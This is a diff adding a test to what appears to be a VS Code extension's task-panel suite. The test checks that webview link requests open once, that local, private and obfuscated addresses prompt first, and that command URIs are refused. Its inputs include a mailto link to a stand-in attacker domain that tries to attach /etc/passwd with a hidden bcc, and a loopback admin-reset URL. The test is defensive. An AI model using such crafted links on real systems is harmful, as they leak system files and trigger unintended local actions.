@@ -345,6 +345,63 @@ describe('Task panel (issue 6)', function () {
     assert.equal(a.panel.webview.options.enableCommandUris, false);
   });
 
+  it('opens a link from the panel exactly once, through the checked opener; a local address asks first, in full', async () => {
+    const panel = await open(fx.tasks.task_with_activity);
+    const opened: string[] = [];
+    const details: string[] = [];
+    class Recording extends ScriptedPrompter {
+      override confirm(text: string, detail: string, action: string): Thenable<boolean> {
+        details.push(detail);
+        return super.confirm(text, detail, action);
+      }
+    }
+    const answer = (choices: (string | undefined)[]): Recording => {
+      restore?.();
+      const prompter = new Recording([], choices);
+      restore = api.setPrompter(prompter);
+      return prompter;
+    };
+    const restoreSink = api.setLinkSink(async (uri) => {
+      opened.push(uri.toString(true));
+      return true;
+    });
+    try {
+      const before = (await requestLog()).length;
+      answer([]);
+      assert.deepEqual(await panel.receive({ type: 'openLink', url: 'https://example.com/docs?a=1' }), { ok: true });
+      assert.deepEqual(opened, ['https://example.com/docs?a=1'], 'one message, one opening');
+      assert.equal(details.length, 0, 'an ordinary web link opens without a question');
+      await panel.receive({ type: 'openLink', url: 'mailto:a@evil.example?subject=Hi&attach=/etc/passwd&bcc=spy@evil.example' });
+      assert.deepEqual(opened.slice(1), ['mailto:a@evil.example?subject=Hi']);
+
+      opened.length = 0;
+      const local = 'http://127.0.0.1:8080/admin/reset?all=1';
+      const declined = answer([]);
+      assert.deepEqual(await panel.receive({ type: 'openLink', url: local }), { ok: true });
+      assert.deepEqual(opened, [], 'declined: not opened');
+      assert.equal(declined.messages.length, 1);
+      assert.ok(details[0]!.includes(local), `the modal shows the full address: ${details[0]}`);
+      answer(['Open Link']);
+      await panel.receive({ type: 'openLink', url: local });
+      assert.deepEqual(opened, [local], 'confirmed: opened once');
+      for (const url of ['http://0x7f.1:8080/', 'http://[::ffff:10.0.0.1]/', 'http://192.168.1.1/', 'http://8.8.8.8/', 'https://xn--80ak6aa92e.com/']) {
+        details.length = 0;
+        answer([]);
+        await panel.receive({ type: 'openLink', url });
+        assert.equal(details.length, 1, `${url} asks first`);
+        assert.ok(details[0]!.includes(new URL(url).href), details[0]);
+      }
+      assert.deepEqual(opened, [local]);
+      const refused = answer([]);
+      assert.equal((await panel.receive({ type: 'openLink', url: 'command:workbench.action.openSettings' }))?.ok, false);
+      assert.equal(refused.messages.length, 1);
+      assert.deepEqual(opened, [local]);
+      assert.equal((await requestLog()).length, before, 'opening links sends nothing to the service');
+    } finally {
+      restoreSink();
+    }
+  });
+
   it('refuses malformed webview messages without any request', async () => {
     const panel = await open(fx.tasks.task_with_activity);
     const before = (await requestLog()).length;
